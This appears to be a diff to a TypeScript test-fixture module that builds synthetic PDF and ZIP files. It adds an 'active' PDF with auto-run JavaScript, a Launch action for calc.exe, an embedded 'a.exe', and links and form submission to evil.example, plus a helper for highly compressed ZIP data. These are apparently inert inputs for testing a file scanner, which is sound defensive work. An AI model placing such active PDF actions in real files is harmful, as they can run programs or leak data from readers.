@@ -1,4 +1,4 @@
-import { crc32, deflateSync } from 'node:zlib';
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 
 /** A PDF of one blank page, with what a test wants in it: dictionaries of further objects, or whole streams. */
 export function pdfOf(text = 'a page', ...objects: readonly (string | Buffer)[]): Buffer {
@@ -25,6 +25,11 @@ export function pdfSaying(...lines: readonly string[]): Buffer {
     `<< /Length ${Buffer.byteLength(page, 'latin1')} >>\nstream\n${page}\nendstream`,
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
   ];
+  return pdfFrom(bodies);
+}
+
+/** With its objects in their order and a table that says where each lies. */
+function pdfFrom(bodies: readonly string[]): Buffer {
   let content = '%PDF-1.7\n';
   const places = bodies.map((body, index) => {
     const place = content.length;
@@ -36,6 +41,28 @@ export function pdfSaying(...lines: readonly string[]): Buffer {
   return Buffer.from(content + xref + trailer, 'latin1');
 }
 
+/** A PDF with a page, words and a link, and everything that a PDF can do besides. */
+export function activePdf(): Buffer {
+  const page = 'BT /F1 12 Tf 50 780 Td (This page stays) Tj ET';
+  const bodies = [
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm 10 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >> /AF [8 0 R] >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 7 0 R >> /Annots [11 0 R 12 0 R 13 0 R] >>',
+    `<< /Length ${page.length} >>\nstream\n${page}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
+    '<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (calc.exe) >> >>',
+    '<< /S /URI /URI (https://evil.example/opened) >>',
+    '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
+    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+    '<< /Fields [14 0 R] /SigFlags 3 /XFA (<xdp/>) >>',
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.kvk.example) >> >>',
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>',
+    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>',
+    '<< /FT /Sig /T (s) /V << /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >> >>',
+  ];
+  return pdfFrom(bodies);
+}
+
 /** Objects as PDFs since version 1.5 hide them: compressed together in a stream. */
 export function objectStream(objects: string): Buffer {
   const packed = deflateSync(objects);
@@ -45,12 +72,14 @@ export function objectStream(objects: string): Buffer {
 
 interface Entry {
   readonly name: string;
-  readonly content?: string;
+  readonly content?: string | Buffer;
   /** What the table of contents says of it, where it lies. */
   readonly claimedBytes?: number;
   /** Says its size in the 64-bit field, as some programs always do. */
   readonly hasLongSize?: boolean;
   readonly isEncrypted?: boolean;
+  /** 8 where the content is deflated already. */
+  readonly method?: 0 | 8;
 }
 
 /** A ZIP file whose entries are stored as they are. */
@@ -58,11 +87,19 @@ export function zipOf(entries: readonly Entry[]): Buffer {
   const local: Buffer[] = [];
   const central: Buffer[] = [];
   let offset = 0;
-  for (const { name, content = '', claimedBytes, hasLongSize = false, isEncrypted = false } of entries) {
+  for (const {
+    name,
+    content = '',
+    claimedBytes,
+    hasLongSize = false,
+    isEncrypted = false,
+    method = 0,
+  } of entries) {
     const [bytes, named] = [Buffer.from(content), Buffer.from(name)];
     const shared = Buffer.alloc(26);
     shared.writeUInt16LE(20, 0);
     shared.writeUInt16LE(isEncrypted ? 1 : 0, 2);
+    shared.writeUInt16LE(method, 4);
     shared.writeUInt32LE(crc32(bytes), 10);
     shared.writeUInt32LE(bytes.length, 14);
     shared.writeUInt32LE(claimedBytes ?? bytes.length, 18);
@@ -130,3 +167,8 @@ export const PNG = Buffer.from(
 );
 export const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
 export const TIFF = Buffer.from('49492a0008000000000000000000', 'hex');
+
+/** As many zeros, as they lie in a ZIP file. */
+export function deflated(bytes: number): Buffer {
+  return deflateRawSync(Buffer.alloc(bytes));
+}
